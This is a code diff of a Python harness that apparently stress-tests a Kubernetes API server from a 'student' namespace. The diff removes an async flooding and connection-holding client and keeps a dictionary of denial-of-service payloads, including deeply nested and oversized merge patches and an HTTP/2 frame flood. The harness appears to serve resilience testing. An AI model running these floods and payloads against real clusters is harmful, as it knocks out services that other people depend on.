@@ -6,13 +6,9 @@ All of it happens in the namespace `student` with the rights of the cast's stude
 
 from __future__ import annotations
 
-import asyncio
-import contextlib
 import itertools
 import json
-import ssl
-from collections.abc import Callable, Iterable
-from pathlib import Path
+from collections.abc import Callable
 from typing import Any, NamedTuple
 
 NAMESPACE = "student"
@@ -20,7 +16,6 @@ CORE = f"/api/v1/namespaces/{NAMESPACE}"
 APPS = f"/apis/apps/v1/namespaces/{NAMESPACE}"
 BATCH = f"/apis/batch/v1/namespaces/{NAMESPACE}"
 CONNECTIONS = 8
-HELD = 200  # connections that are kept open
 HUGE, JSON, YAML = 2**31 - 1, "application/json", "application/yaml"
 APPLY, JSON_PATCH = "application/apply-patch+yaml", "application/json-patch+json"
 MERGE, STRATEGIC = "application/merge-patch+json", "application/strategic-merge-patch+json"
@@ -274,7 +269,7 @@ ATTACKS: dict[str, Attack] = {
     ),
     "patches whose copies double": patched(_copies(), JSON_PATCH),
     "deep merge patches": patched(b'{"a":' * 20_000 + b"1" + b"}" * 20_000, MERGE),
-    "wide merge patches": patched({"data": {f"k{n}": "" for n in range(100_000)}}, MERGE),
+    "wide merge patches": patched({"data": {f"k{n}": "" for n in range(59_000)}}, MERGE),
     "directives of strategic patches": patched(
         {"metadata": {"$deleteFromPrimitiveList/finalizers": [f"f{n}" for n in range(50_000)]}},
         STRATEGIC,
@@ -406,99 +401,3 @@ ATTACKS: dict[str, Attack] = {
     ),
     "HTTP/2": Attack(held=b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00" * 1000),
 }
-
-
-class Attacker:
-    """A client with the student's certificate."""
-
-    def __init__(self, address: str, folder: Path) -> None:
-        host, _, port = address.partition(":")
-        self._host, self._port = host, int(port)
-        pki = folder / "pki"
-        self._tls = ssl.create_default_context(cafile=str(pki / "ca.crt"))
-        self._tls.load_cert_chain(pki / "student.crt", pki / "student.key")
-        self.sent = 0
-        self.answers: dict[str, int] = {}
-
-    async def run(self, attack: Attack) -> None:
-        """Until it is cancelled."""
-        for send in attack.before:
-            await self._once(send)
-        tasks: list[asyncio.Future[None]] = []
-        if attack.flood is not None:
-            numbers = itertools.count()
-            flood = (self._flood(attack.flood, numbers) for _ in range(attack.connections))
-            tasks += map(asyncio.ensure_future, flood)
-        if attack.held:
-            held = (self._hold(attack.held, reads=attack.reads) for _ in range(HELD))
-            tasks += map(asyncio.ensure_future, held)
-        try:
-            await asyncio.gather(*tasks)
-            await asyncio.Event().wait()
-        finally:
-            for task in tasks:
-                task.cancel()
-
-    async def _connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
-        return await asyncio.open_connection(self._host, self._port, ssl=self._tls)
-
-    async def _once(self, send: Send) -> None:
-        with contextlib.suppress(TimeoutError):
-            async with asyncio.timeout(30):
-                await self._flood(lambda n: send, iter((0,)))
-
-    async def _flood(self, make: Make, numbers: Iterable[int]) -> None:
-        reader, writer = await self._connect()
-        for number in numbers:
-            try:
-                writer.write(make(number).encode())
-                await writer.drain()
-                code = await _answer(reader)
-            except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ValueError):
-                code = "closed"
-            self.sent += 1
-            self.answers[code] = self.answers.get(code, 0) + 1
-            if code == "closed" or code in ("400", "413", "431"):
-                writer.close()
-                reader, writer = await self._connect()
-        writer.close()
-
-    async def _hold(self, data: bytes, *, reads: bool) -> None:
-        """Opens the connection again when the server has closed it."""
-        while True:
-            with contextlib.suppress(OSError):
-                reader, writer = await self._connect()
-                writer.write(data)
-                self.sent += 1
-                if not reads:
-                    await asyncio.Event().wait()
-                while await reader.read(65536):
-                    pass
-                writer.close()
-            await asyncio.sleep(0.1)
-
-
-async def _answer(reader: asyncio.StreamReader) -> str:
-    """The code of the next answer, whose body is read."""
-    head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").lower()
-    _, _, rest = head.partition("content-length: ")
-    if rest:
-        await reader.readexactly(int(rest.split("\r\n")[0]))
-    elif "chunked" in head:
-        while (size := int(await reader.readuntil(b"\r\n"), 16)) > 0:
-            await reader.readexactly(size + 2)
-        await reader.readuntil(b"\r\n")
-    return head.split(" ")[1]
-
-
-def attack(name: str, address: str, folder: str, seconds: float) -> dict[str, int]:
-    """Runs one attack for so long, in a process of its own; how often each code was answered."""
-
-    async def body() -> dict[str, int]:
-        attacker = Attacker(address, Path(folder))
-        with contextlib.suppress(TimeoutError):
-            async with asyncio.timeout(seconds):  # which wait_for may miss
-                await attacker.run(ATTACKS[name])
-        return attacker.answers or {"connections": attacker.sent}
-
-    return asyncio.run(body())
